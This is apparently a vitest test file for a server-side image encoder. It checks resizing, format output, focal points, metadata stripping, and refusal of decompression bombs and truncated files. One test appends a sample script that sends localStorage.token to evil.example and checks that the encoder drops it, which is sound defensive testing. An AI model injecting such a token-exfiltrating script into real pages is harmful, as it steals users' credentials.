import sharp, { type Sharp } from 'sharp';
import { describe, expect, test } from 'vitest';
import { encodeImage } from './image-encode.server.ts';
import { BLUE, bombGif, bombPng, plainPicture, RED } from './image.factory.ts';
import type { EncodedImage } from './image-process.schema.ts';

/** Red above blue. */
const twoHalves = (width: number, height: number) =>
  plainPicture(width, height).composite([
    { input: { create: { width, height: height / 2, channels: 3, background: BLUE } }, gravity: 'south' },
  ]);

function fileOf(encoded: EncodedImage, width: number, format: 'avif' | 'webp'): Buffer {
  const file = encoded.files.find((candidate) => candidate.width === width && candidate.format === format);
  if (!file) throw new Error(`no ${format} of ${width} px`);
  return Buffer.from(file.bytes);
}

/** The colour at a point, as `red`, `blue` or its numbers. */
async function colorAt(bytes: Uint8Array, left: number, top: number): Promise<string> {
  const pixel = await sharp(bytes).extract({ left, top, width: 1, height: 1 }).removeAlpha().raw().toBuffer();
  const [r = 0, g = 0, b = 0] = pixel;
  const isNear = (color: typeof RED) =>
    Math.abs(r - color.r) + Math.abs(g - color.g) + Math.abs(b - color.b) < 40;
  return isNear(RED) ? 'red' : isNear(BLUE) ? 'blue' : `${r},${g},${b}`;
}

describe('the widths of a stored picture', () => {
  test.each([
    { own: [200, 100], size: [200, 100], widths: [200] },
    { own: [320, 400], size: [320, 400], widths: [320] },
    { own: [1000, 500], size: [1000, 500], widths: [320, 640, 800, 1000] },
    { own: [2400, 1200], size: [1920, 960], widths: [320, 640, 800, 1200, 1920] },
    { own: [1200, 3000], size: [960, 2400], widths: [320, 640, 800, 960] },
    { own: [3000, 2], size: [1920, 1], widths: [320, 640, 800, 1200, 1920] },
    { own: [1, 5000], size: [1, 2400], widths: [1] },
  ])('from $own are $widths, within the size limits', async ({ own, size, widths }) => {
    const [width = 0, height = 0] = own;
    const encoded = await encodeImage(await plainPicture(width, height).png().toBuffer());
    expect([encoded.width, encoded.height]).toEqual(size);
    expect(encoded.widths).toEqual(widths);
    const made = await Promise.all(encoded.files.map((file) => sharp(file.bytes).metadata()));
    expect(made.map((file) => file.width)).toEqual(widths.flatMap((each) => [each, each]));
  });

  test('exist in AVIF and in WebP', async () => {
    const encoded = await encodeImage(await plainPicture(700, 400).jpeg().toBuffer());
    for (const { format, bytes } of encoded.files) {
      const { format: container, compression } = await sharp(bytes).metadata();
      expect(format === 'avif' ? [container, compression] : [container]).toEqual(
        format === 'avif' ? ['heif', 'av1'] : ['webp'],
      );
    }
  });
});

describe('the focal point of a stored picture', () => {
  const SKIN = { r: 217, g: 163, b: 126 };
  /** A plain wall with something striking around a point, in shares of width and height. */
  const striking = (width: number, height: number, [x, y]: readonly [number, number]) => {
    const side = Math.round(Math.min(width, height) / 4);
    const left = Math.round(x * width - side / 2);
    const top = Math.round(y * height - side / 2);
    const input = { create: { width: side, height: side, channels: 3, background: SKIN } } as const;
    return plainPicture(width, height, { r: 138, g: 143, b: 148 })
      .composite([{ input, left, top }])
      .png()
      .toBuffer();
  };

  test('is guessed near what stands out of a landscape picture', async () => {
    const { focus } = await encodeImage(await striking(900, 600, [0.75, 0.4]));
    expect(Math.abs(focus.x - 75)).toBeLessThan(12);
    expect(Math.abs(focus.y - 40)).toBeLessThan(12);
  });

  test('is at the usual height of faces in an upright picture', async () => {
    const { focus } = await encodeImage(await striking(600, 900, [0.3, 0.6]));
    expect(Math.abs(focus.x - 30)).toBeLessThan(12);
    expect(focus.y).toBe(22);
  });

  test('is not at the side of an upright picture, whatever strikes there', async () => {
    const right = await encodeImage(await striking(600, 900, [0.95, 0.6]));
    expect(right.focus).toEqual({ x: 70, y: 22 });
    const left = await encodeImage(await striking(600, 900, [0.05, 0.6]));
    expect(left.focus).toEqual({ x: 30, y: 22 });
  });
});

describe('a stored picture', () => {
  test('is rotated as its EXIF says, and has no EXIF, GPS, XMP or colour profile', async () => {
    const upload = await twoHalves(400, 200)
      .jpeg()
      .withMetadata({ orientation: 6 })
      .withExif({ IFD0: { Artist: 'سارة' }, IFD3: { GPSLatitudeRef: 'N', GPSLatitude: '30/1 2/1 0/1' } })
      .withXmp('<x:xmpmeta xmlns:x="adobe:ns:meta/"/>')
      .withIccProfile('p3')
      .toBuffer();
    const before = await sharp(upload).metadata();
    expect([before.exif, before.xmp, before.icc].map(Boolean)).toEqual([true, true, true]);

    const encoded = await encodeImage(upload);
    expect([encoded.width, encoded.height]).toEqual([200, 400]);
    const after = await Promise.all(encoded.files.map((file) => sharp(file.bytes).metadata()));
    for (const { exif, xmp, icc, orientation, space } of after) {
      expect({ exif, xmp, icc, orientation, space }).toEqual({ space: 'srgb' });
    }
    // A quarter turn clockwise takes the upper half to the right.
    expect(await colorAt(fileOf(encoded, 200, 'webp'), 180, 200)).toBe('red');
    expect(await colorAt(fileOf(encoded, 200, 'webp'), 20, 200)).toBe('blue');
  });

  test('is the first frame of an animated GIF', async () => {
    const frames = await Promise.all(
      [plainPicture(64, 64), plainPicture(64, 64, BLUE)].map((frame) => frame.png().toBuffer()),
    );
    const upload = await sharp(frames, { join: { animated: true } })
      .gif()
      .toBuffer();
    expect((await sharp(upload).metadata()).pages).toBe(2);
    const encoded = await encodeImage(upload);
    const stored = fileOf(encoded, 64, 'webp');
    expect((await sharp(stored).metadata()).pages).toBeUndefined();
    expect(await colorAt(stored, 32, 32)).toBe('red');
  });

  test.each(['jpeg', 'png', 'gif', 'webp'] as const)(
    'has no bytes that were appended to a %s',
    async (format) => {
      const payload = Buffer.from(
        '<script>location="https://evil.example/?"+localStorage.token</script>'.repeat(3),
      );
      const upload = Buffer.concat([await twoHalves(320, 320).toFormat(format).toBuffer(), payload]);
      const { files } = await encodeImage(upload);
      for (const { bytes } of files) {
        for (let at = 0; at + 16 <= payload.length; at += 1) {
          expect(Buffer.from(bytes).includes(payload.subarray(at, at + 16))).toBe(false);
        }
      }
    },
  );

  test('keeps its transparency', async () => {
    const clear = { ...RED, alpha: 0.5 };
    const upload = await sharp({ create: { width: 32, height: 32, channels: 4, background: clear } })
      .png()
      .toBuffer();
    const encoded = await encodeImage(upload);
    for (const { bytes } of encoded.files) expect((await sharp(bytes).metadata()).hasAlpha).toBe(true);
  });

  test.each([
    ['grey', (image: Sharp) => image.toColourspace('b-w').jpeg()],
    ['16-bit', (image: Sharp) => image.toColourspace('rgb16').png()],
    ['CMYK', (image: Sharp) => image.toColourspace('cmyk').jpeg()],
    ['palette', (image: Sharp) => image.png({ palette: true })],
  ])('becomes sRGB with 8 bits from a %s picture', async (_name, convert) => {
    const encoded = await encodeImage(await convert(twoHalves(64, 64)).toBuffer());
    const { space, depth } = await sharp(fileOf(encoded, 64, 'webp')).metadata();
    expect([space, depth]).toEqual(['srgb', 'uchar']);
  });

  test('has a WebP placeholder of under 400 characters, also with transparency', async () => {
    const noise = { type: 'gaussian', mean: 128, sigma: 60 } as const;
    const picture = sharp({ create: { width: 300, height: 400, channels: 3, background: RED, noise } });
    const mask = await sharp({ create: { width: 300, height: 400, channels: 3, background: RED, noise } })
      .extractChannel(0)
      .toBuffer({ resolveWithObject: true });
    const upload = await picture
      .joinChannel(mask.data, { raw: mask.info })
      .png({ compressionLevel: 1 })
      .toBuffer();
    const { placeholder } = await encodeImage(upload);
    expect(placeholder.length).toBeLessThan(400);
    const tiny = Buffer.from(placeholder.replace('data:image/webp;base64,', ''), 'base64');
    const { width, height, format } = await sharp(tiny).metadata();
    expect([width, height, format]).toEqual([12, 16, 'webp']);
  });
});

describe('encodeImage', () => {
  test('refuses 50 megapixels', async () => {
    await expect(encodeImage(bombPng(10_000, 5_000))).rejects.toThrow(/pixel limit/);
  });

  test('refuses a side of more than 16,384 pixels', async () => {
    await expect(encodeImage(bombPng(16_385, 8))).rejects.toThrow('a side is too long');
  });

  test('refuses more than 40 megapixels over all frames', async () => {
    expect((await encodeImage(bombGif(200, 200, 11))).width).toBe(200);
    await expect(encodeImage(bombGif(2_000, 2_000, 11))).rejects.toThrow('too many pixels over all frames');
  });

  test.each(['jpeg', 'png', 'gif', 'webp'] as const)('refuses a %s cut in half', async (format) => {
    const noise = { type: 'gaussian', mean: 128, sigma: 40 } as const;
    const picture = sharp({ create: { width: 200, height: 200, channels: 3, background: RED, noise } });
    const upload = await picture.toFormat(format).toBuffer();
    await expect(encodeImage(upload.subarray(0, upload.length / 2))).rejects.toThrow();
  });

  test('refuses a signature with garbage after it', async () => {
    const garbage = Buffer.from('\x89PNG\r\n\x1a\n'.padEnd(500, 'مُلهِم'), 'latin1');
    await expect(encodeImage(garbage)).rejects.toThrow();
  });
});
